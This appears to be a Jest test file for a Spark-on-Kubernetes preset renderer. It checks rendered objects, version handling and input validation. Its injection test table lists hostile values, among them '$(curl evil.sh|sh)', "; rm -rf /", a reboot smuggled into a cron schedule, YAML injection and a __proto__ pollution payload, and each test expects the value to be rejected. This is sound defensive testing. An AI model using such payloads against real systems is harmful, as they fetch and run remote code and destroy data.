import { SPARK_VERSIONS } from '@spark-k8s/plugin-spark-common';
import fs from 'node:fs';
import path from 'node:path';
import { parseAllDocuments } from 'yaml';
import {
  parametersFor,
  presetMatrix,
  presets,
  PRESETS_DIR,
} from '../__testUtils__/presets';
import { parsePreset, PresetFileError } from '../presets/loadPresets';
import { PresetRenderError, renderPreset, toYaml } from './render';

function preset(name: string) {
  const found = presets.get(name);
  if (!found) throw new Error(`no preset ${name}`);
  return found;
}

function renderIssues(name: string, input: unknown) {
  try {
    renderPreset(preset(name), input);
  } catch (error) {
    if (error instanceof PresetRenderError) return error.issues;
    throw error;
  }
  throw new Error('rendered although it should not');
}

describe('renderPreset', () => {
  it('finds the presets the golden paths need', () => {
    expect([...presets.keys()]).toEqual([
      'airflow-connect',
      'airflow-spark-operator',
      'airflow-spark-submit',
      'batch-spark-operator',
      'celeborn-shuffle',
      'cost-optimized',
      'gpu-rapids',
      'history-server',
      'hive-metastore',
      'iceberg',
      'jupyter-connect-kubernetes',
      'jupyter-connect-standalone',
      'openshift-restricted',
    ]);
    const backends = new Set([...presets.values()].map(p => p.backend));
    expect([...backends].sort()).toEqual([
      'kubernetes',
      'operator',
      'standalone',
    ]);
  });

  it.each(presetMatrix)('renders %s for Spark %s', (name, version) => {
    const rendered = renderPreset(
      preset(name),
      parametersFor(preset(name), version),
    );
    const kinds = rendered.objects.map(o => o.kind);
    expect(kinds).toEqual(
      expect.arrayContaining([
        'Namespace',
        'ServiceAccount',
        'Role',
        'RoleBinding',
        'ResourceQuota',
        'LimitRange',
        'NetworkPolicy',
        'ConfigMap',
      ]),
    );
    for (const o of rendered.objects) {
      expect(o.metadata.name.length).toBeLessThanOrEqual(63);
      expect(o.metadata.labels?.['backstage.io/kubernetes-id']).toBe('team-a');
    }
    expect(
      rendered.objects
        .filter(o => o.kind !== 'Namespace')
        .map(o => o.metadata.namespace),
    ).toEqual(rendered.objects.slice(1).map(() => `ns-${name}`));
    expect(rendered.objects[0].kind).toBe('Namespace');
    // No anchors or aliases: every document reads on its own.
    expect(toYaml(rendered.objects)).not.toMatch(/(^|\s)[&*]a[0-9]+(\s|$)/m);
    // The YAML stream is exactly the objects: nothing added, nothing lost.
    const docs = parseAllDocuments(toYaml(rendered.objects)).map(d => d.toJS());
    expect(docs).toEqual(JSON.parse(JSON.stringify(rendered.objects)));
    expect(rendered.spark.conf['spark.master']).toMatch(/^(k8s|spark):\/\//);
  });

  it('renders each backend mode its own way', () => {
    const version = '4.3.0';
    const kinds = (name: string) =>
      renderPreset(
        preset(name),
        parametersFor(preset(name), version),
      ).objects.map(o => `${o.kind}/${o.metadata.name}`);
    expect(kinds('jupyter-connect-standalone')).toEqual(
      expect.arrayContaining([
        'StatefulSet/team-a-master',
        'Deployment/team-a-worker',
      ]),
    );
    expect(kinds('batch-spark-operator')).toEqual(
      expect.arrayContaining([
        'SparkApplication/team-a-job',
        'ScheduledSparkApplication/team-a-scheduled',
      ]),
    );
    const k8s = renderPreset(
      preset('jupyter-connect-kubernetes'),
      parametersFor(preset('jupyter-connect-kubernetes'), version),
    );
    expect(k8s.spark.conf['spark.master']).toBe(
      'k8s://https://kubernetes.default.svc:443',
    );
    expect(
      k8s.spark.conf['spark.kubernetes.authenticate.driver.serviceAccountName'],
    ).toBe('team-a-spark');
  });

  it('applies the preset overrides over the components and the parameter defaults under the user', () => {
    const gpu = preset('gpu-rapids');
    const rendered = renderPreset(
      gpu,
      parametersFor(gpu, '4.3.0', { executor: { cores: 8 } }),
    );
    expect(rendered.parameters.executor).toMatchObject({
      cores: 8,
      memoryGiB: 16,
      gpus: 1,
    });
    expect(rendered.spark.conf['spark.sql.shuffle.partitions']).toBe('64');
    expect(rendered.spark.conf['spark.task.resource.gpu.amount']).toBe('0.125');
    expect(rendered.spark.conf['spark.jars.packages']).toContain(
      'com.nvidia:rapids-4-spark_2.13:26.08.1',
    );
  });

  it('uses the Spark line artifacts of the chosen version', () => {
    const connect = preset('jupyter-connect-kubernetes');
    const v35 = renderPreset(connect, parametersFor(connect, '3.5.9'));
    expect(v35.spark.conf['spark.jars.packages']).toContain(
      'org.apache.spark:spark-connect_2.12:3.5.9',
    );
    const v4 = renderPreset(connect, parametersFor(connect, '4.3.0'));
    expect(v4.spark.conf['spark.jars.packages']).not.toContain('spark-connect');
  });

  it('renders the Iceberg preset with a Hive catalog too', () => {
    const ice = preset('iceberg');
    const rendered = renderPreset(
      ice,
      parametersFor(ice, '3.5.9', { iceberg: { catalog: 'hive' } }),
    );
    expect(rendered.spark.conf['spark.sql.catalog.lake.uri']).toBe(
      'thrift://team-a-metastore:9083',
    );
    expect(rendered.objects.map(o => o.metadata.name)).toContain(
      'team-a-metastore-backup',
    );
    expect(rendered.objects.map(o => o.metadata.name)).not.toContain(
      'team-a-iceberg-rest',
    );
  });

  it('refuses Spark versions a preset is not offered for, naming the field', () => {
    expect(
      renderIssues(
        'celeborn-shuffle',
        parametersFor(preset('celeborn-shuffle'), '4.3.0'),
      ),
    ).toEqual([
      {
        path: 'sparkVersion',
        message: 'must be one of 3.5.9 for preset "celeborn-shuffle"',
      },
    ]);
  });

  it('names the parameter a component needs when it is missing', () => {
    const history = preset('history-server');
    expect(
      renderIssues('history-server', {
        ...parametersFor(history, '4.3.0'),
        storage: {},
      }),
    ).toEqual([
      {
        path: 'storage.eventLogDir',
        message: 'is required by the history-server component',
      },
    ]);
  });

  describe('rejects bad parameters with the field named', () => {
    const base = parametersFor(preset('batch-spark-operator'), '4.3.0');
    const issuesOf = (override: Record<string, unknown>) =>
      renderIssues('batch-spark-operator', { ...base, ...override }).map(
        i => i.path,
      );

    it.each([
      ['uppercase', { name: 'Team-A' }, 'name'],
      ['a leading dash', { namespace: '-team' }, 'namespace'],
      ['a leading digit in the name', { name: '1team' }, 'name'],
      ['too long for the name', { name: 'a'.repeat(31) }, 'name'],
      ['too long for a namespace', { namespace: 'a'.repeat(64) }, 'namespace'],
      ['an underscore', { namespace: 'team_a' }, 'namespace'],
      ['a dot', { name: 'team.a' }, 'name'],
    ])('DNS names with %s', (_label, override, field) => {
      expect(issuesOf(override)).toEqual([field]);
    });

    it.each([
      ['negative cores', { driver: { cores: -1 } }, 'driver.cores'],
      ['zero memory', { executor: { memoryGiB: 0 } }, 'executor.memoryGiB'],
      ['huge memory', { executor: { memoryGiB: 1e9 } }, 'executor.memoryGiB'],
      ['fractional cores', { executor: { cores: 1.5 } }, 'executor.cores'],
      ['odd memory steps', { driver: { memoryGiB: 1.3 } }, 'driver.memoryGiB'],
      [
        'infinite executors',
        { executor: { instances: Infinity } },
        'executor.instances',
      ],
      ['NaN GPUs', { executor: { gpus: NaN } }, 'executor.gpus'],
      ['a negative quota', { quota: { cpu: -4 } }, 'quota.cpu'],
      ['a huge quota', { quota: { memoryGiB: 100000 } }, 'quota.memoryGiB'],
      ['numbers as strings', { driver: { cores: '2' } }, 'driver.cores'],
      [
        'max below min executors',
        { executor: { instances: 5, maxInstances: 2 } },
        'executor.maxInstances',
      ],
    ])('resources: %s', (_label, override, field) => {
      expect(issuesOf(override)).toEqual([field]);
    });

    it.each([
      ['YAML in a name', { name: 'a\nkind: Secret' }, 'name'],
      [
        'YAML in a namespace',
        { namespace: 'x\n---\napiVersion: v1' },
        'namespace',
      ],
      [
        'a flag in the image',
        { image: 'apache/spark:4 --conf spark.x=y' },
        'image',
      ],
      [
        'shell in an argument',
        { job: { arguments: ['ok', '$(curl evil.sh|sh)'] } },
        'job.arguments[1]',
      ],
      [
        'a quote in an argument',
        { job: { arguments: ["a' ; rm -rf /"] } },
        'job.arguments[0]',
      ],
      [
        'a newline in a storage URI',
        { storage: { eventLogDir: 's3a://bucket/x\nspark.evil true' } },
        'storage.eventLogDir',
      ],
      [
        'credentials in the endpoint',
        { storage: { endpoint: 'http://user:pw@minio:9000' } },
        'storage.endpoint',
      ],
      [
        'a path in the endpoint',
        { storage: { endpoint: 'http://minio:9000/x?y' } },
        'storage.endpoint',
      ],
      [
        'a conf flag in the class',
        { job: { type: 'Scala', mainClass: 'a.B --conf x' } },
        'job.mainClass',
      ],
      [
        'a command in the schedule',
        { job: { schedule: '* * * * * ; reboot' } },
        'job.schedule',
      ],
      ['a template in the owner', { owner: '${{ secrets.token }}' }, 'owner'],
      ['an unknown top-level key', { evil: { spec: 1 } }, 'evil'],
      [
        'an unknown nested key',
        { driver: { cores: 1, securityContext: { privileged: true } } },
        'driver.securityContext',
      ],
      [
        'a prototype key',
        JSON.parse('{"__proto__": {"polluted": true}}'),
        '__proto__',
      ],
    ])('injection: %s', (_label, override, field) => {
      expect(issuesOf(override)).toEqual([field]);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    });

    it('gives a clear message', () => {
      expect(
        renderIssues('batch-spark-operator', { ...base, namespace: 'Team A' }),
      ).toEqual([
        {
          path: 'namespace',
          message:
            'must be a DNS-1123 label: lowercase letters, digits and "-", starting and ending with a letter or digit',
        },
      ]);
    });

    it('requires an object', () => {
      expect(renderIssues('batch-spark-operator', 'name: x')).toEqual([
        { path: '(root)', message: 'must be an object' },
      ]);
    });
  });
});

describe('preset files', () => {
  const valid = fs.readFileSync(
    path.join(PRESETS_DIR, 'batch-spark-operator', 'preset.yaml'),
    'utf8',
  );

  function fileIssues(text: string) {
    try {
      parsePreset(text, 'preset.yaml');
    } catch (error) {
      if (error instanceof PresetFileError) return error.issues;
      throw error;
    }
    throw new Error('parsed although it should not');
  }

  it('rejects an unknown component with its path', () => {
    expect(
      fileIssues(valid.replace('use: spark-application', 'use: spark-magic')),
    ).toEqual([expect.objectContaining({ path: 'components[0].use' })]);
  });

  it('rejects a Spark conf override that would add a line', () => {
    const text = `${valid}overrides:\n  sparkConf:\n    spark.sql.shuffle.partitions: "8\\nspark.driver.extraJavaOptions -Dx"\n`;
    expect(fileIssues(text)).toEqual([
      expect.objectContaining({
        path: 'overrides.sparkConf["spark.sql.shuffle.partitions"]',
      }),
    ]);
  });

  it('rejects YAML aliases', () => {
    expect(fileIssues(`${valid}tags: &t [a]\nx: *t\n`)[0].message).toMatch(
      /not valid YAML/,
    );
  });

  it('offers only known Spark versions', () => {
    expect(SPARK_VERSIONS).toContain('3.5.9');
    expect(fileIssues(valid.replace("'3.5.9'", "'3.4.0'"))).toEqual([
      expect.objectContaining({ path: 'sparkVersions[2]' }),
    ]);
  });
});
